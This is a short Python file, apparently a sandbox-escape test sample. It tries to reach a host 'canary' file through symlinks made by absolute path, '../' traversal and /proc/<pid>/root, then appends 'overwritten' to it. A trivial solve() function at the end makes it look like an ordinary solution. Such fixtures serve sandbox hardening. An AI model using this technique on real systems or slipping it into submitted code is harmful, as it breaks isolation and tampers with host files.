"""Reaches a file of the user by a link of its own."""

import os

os.chdir("/tmp")
for target in (
    HOST["canary"],
    "../" * 20 + HOST["canary"].lstrip("/"),
    f"/proc/{HOST['pid']}/root{HOST['canary']}",
):
    os.symlink(target, f"link{len(target)}")
    try:
        with open(f"link{len(target)}", "a") as file:
            file.write("overwritten")
    except OSError:
        continue
    break
else:
    raise SystemExit("no way out")


def solve(x):
    return x * x
